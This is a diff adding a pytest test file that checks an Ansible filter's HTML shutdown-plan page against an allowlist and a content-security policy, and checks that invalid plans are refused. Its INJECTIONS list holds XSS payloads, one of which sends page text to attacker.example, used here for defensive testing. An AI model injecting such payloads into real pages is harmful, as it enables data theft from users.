@@ -1,0 +1,231 @@
+# Copyright (c) 2026, The homelab.nut contributors
+# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+
+from __future__ import annotations
+
+import json
+import re
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from ansible.errors import AnsibleFilterError
+from ansible_collections.homelab.nut.plugins.filter import shutdown_picture
+from ansible_collections.homelab.nut.plugins.module_utils._nut import picture, plan
+from ansible_collections.homelab.nut.tests.unit.support.hostile import NASTY, changed, unfit, values
+from hypothesis import given
+from hypothesis import strategies as st
+
+draw = shutdown_picture.FilterModule().filters()["shutdown_picture"]
+
+
+def made(name: str = "truenas", guests: int = 1) -> dict[str, Any]:
+    """Return a plan as the module returns it."""
+    media = [f"media{number}" for number in range(guests)]
+    planned = plan.plan(
+        [
+            plan.Machine("pve", "primary", "pve"),
+            plan.Machine(name, "secondary", "truenas"),
+            *(plan.Machine(one, "guest", "qm", 10, 40, 60, (name,), 100 + at) for at, one in enumerate(media)),
+        ],
+        [plan.Supply(runtime=1500, runtime_low=480, ignorelb=True)],
+        plan.Timing(guests_time=120),
+        [plan.StagePlan("nas-guests", runtime=700, guests=tuple(media), fsd=True)],
+    )
+    data: dict[str, Any] = json.loads(json.dumps(plan.to_dict(planned)))
+    return data
+
+
+# all that the page may hold
+TAGS = frozenset(
+    re.findall(
+        r"\w+",
+        "html head meta title style body main h1 h2 p div b span strong section svg text rect line table tr th td dl dt dd i u",
+    )
+)
+ATTRIBUTES = frozenset(
+    re.findall(
+        r"[\w-]+",
+        "lang charset http-equiv name content class aria-hidden viewbox role aria-label x y x1 y1 x2 y2 width height rx"
+        " fill fill-opacity stroke stroke-width stroke-dasharray text-anchor style",
+    )
+)
+STYLES = re.compile(
+    r"(background|border|fill|text-align|padding-right|width):[^;:<>]*(;(background|border|fill|text-align|padding-right|width):[^;:<>]*)*"
+)
+
+
+class Allowed(HTMLParser):
+    """Collects what is not on the list of what may be."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.wrong: list[str] = []
+        self.policies: list[str] = []
+        self.feed(page)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        given = {name: value or "" for name, value in attrs}
+        self.wrong += [tag] if tag not in TAGS else []
+        self.wrong += [
+            f"{tag} {name}={value}" for name, value in given.items() if name not in ATTRIBUTES or unfit(value)
+        ]
+        if not STYLES.fullmatch(given.get("style", "fill:none")) or "url" in given.get("style", ""):
+            self.wrong.append(given["style"])
+        if "http-equiv" in given:
+            self.policies.append(given["content"])
+
+    handle_startendtag = handle_starttag
+
+    def handle_decl(self, decl: str) -> None:
+        self.wrong += [decl] if decl != "DOCTYPE html" else []
+
+    def handle_comment(self, data: str) -> None:
+        self.wrong.append(data)
+
+    def unknown_decl(self, data: str) -> None:
+        self.wrong.append(data)
+
+    def handle_pi(self, data: str) -> None:
+        self.wrong.append(data)
+
+
+def is_harmless(page: str) -> bool:
+    """See that a page holds nothing but what it may. What the browser may do is said before anything of the host's."""
+    read = Allowed(page)
+    assert read.wrong == []
+    (policy,) = read.policies
+    assert "default-src 'none'" in policy
+    assert "script" not in policy
+    assert page.index("http-equiv") < page.index("<title>") < page.index("<body>")
+    assert not unfit(page)
+    return True
+
+
+INJECTIONS = (
+    "<script>fetch('https://attacker.example/?'+document.body.innerText)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "' onmouseover='alert(1)",
+    "</title><script>alert(1)</script>",
+    "</svg><iframe src=javascript:alert(1)>",
+    "--><!--<script>",
+    "]]><svg onload=alert(1)>",
+    "javascript:alert(1)",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "</style><style>@import 'https://attacker.example'",
+    '<a href="javascript:alert(1)">x</a>',
+    "expression(alert(1)); background: url(https://attacker.example)",
+    *NASTY[:-1],
+)
+
+
+def test_the_page_is_that_of_the_plan() -> None:
+    data = made()
+    assert draw(data) == picture.html(plan.from_dict(data))
+    assert "The shutdown, as planned" in draw(data)
+    drawn = draw(data, {"truenas": [12, 71.5], "pve": [80, None], "media0": [None, None]})
+    assert "The shutdown, planned and seen" in drawn
+    assert drawn == picture.html(
+        plan.from_dict(data), {"truenas": (12, 71.5), "pve": (80, None), "media0": (None, None)}
+    )
+    assert is_harmless(draw(data))
+    assert is_harmless(drawn)
+
+
+@pytest.mark.parametrize("words", INJECTIONS)
+def test_a_host_can_not_put_anything_active_into_it(words: str) -> None:
+    """In each text of a plan, one after the other, and in all at once."""
+    data = made()
+    pages = [draw(data, {words: [1, 2], "truenas": [3, None]}), draw(made(name=f"nas {words}"))]
+    refusals: list[str] = []
+    for holder, key in list(texts(data)):
+        before, holder[key] = holder[key], words
+        try:
+            pages.append(draw(data))
+        except AnsibleFilterError as error:
+            refusals.append(str(error))
+        holder[key] = before
+    assert len(pages) > 40
+    assert not unfit("".join(refusals))
+    assert all(map(is_harmless, pages))
+
+
+def texts(data: Any) -> Any:
+    for key, value in data.items() if isinstance(data, dict) else enumerate(data) if isinstance(data, list) else ():
+        if isinstance(value, str):
+            yield data, key
+        yield from texts(value)
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"picture": "<script>"},
+        {"machines": "<html><script>"},
+        {"machines": []},
+        {"machines": [{"name": "pve", "role": "primary", "kind": "<script>"}]},
+        {"events": []},
+        {"worst": None},
+        {"constraints": []},
+        {"needed": {"hostsync": "<script>"}},
+        {"needed": {"hostsync": 10**400}},
+        {"holds": "yes"},
+        {"guests": [{"machine": "a", "id": "<script>", "kind": "qm", "name": "", "stage": "", "seconds": 1}]},
+        {"events": [{"at": 10**400, "until": 0, "machine": "", "what": "FSD"}]},
+        {"events": [{"at": float("nan"), "until": 0, "machine": "", "what": "FSD"}]},
+    ],
+)
+def test_what_is_no_plan_is_refused(change: dict[str, Any]) -> None:
+    with pytest.raises(AnsibleFilterError, match="this is no plan that was kept"):
+        draw({**made(), **change})
+
+
+@pytest.mark.parametrize("data", [None, 7, "<html><script>", [], {}])
+def test_what_is_not_even_a_dictionary_is_refused(data: Any) -> None:
+    with pytest.raises(AnsibleFilterError, match="this is no plan that was kept"):
+        draw(data)
+
+
+@pytest.mark.parametrize(
+    "pair", [[1], [1, 2, 3], 7, None, ["soon", 2], [1, float("nan")], [float("inf"), 1], {}, [10**400, 1]]
+)
+def test_what_was_seen_must_be_times(pair: Any) -> None:
+    with pytest.raises(AnsibleFilterError, match=r"what was seen\.seen\.truenas"):
+        draw(made(), {"truenas": pair})
+
+
+def test_a_homelab_of_hundreds_is_drawn_and_one_of_thousands_refused() -> None:
+    assert is_harmless(draw(made(guests=400)))
+    data = made()
+    data["machines"] += [{**data["machines"][2], "name": f"m{number}"} for number in range(4000)]
+    with pytest.raises(AnsibleFilterError, match="more than 1000 machines"):
+        draw(data)
+
+
+DATA = made()
+
+
+@given(
+    st.one_of(values, changed(DATA)),
+    st.one_of(st.none(), values, st.dictionaries(st.text(), st.lists(st.floats(), max_size=2))),
+)
+def test_whatever_a_host_says(data: Any, seen: Any) -> None:
+    for one in (data, DATA):
+        refused = ""
+        try:
+            page = draw(one, seen)
+        except AnsibleFilterError as error:
+            refused = str(error)
+        assert not unfit(refused)
+        assert refused or is_harmless(page)
+
+
+@given(changed(DATA))
+def test_the_text_of_a_plan_can_be_made_of_what_was_read(data: Any) -> None:
+    try:
+        read = plan.from_dict(data)
+    except plan.PlanError:
+        return
+    assert plan.table(read)
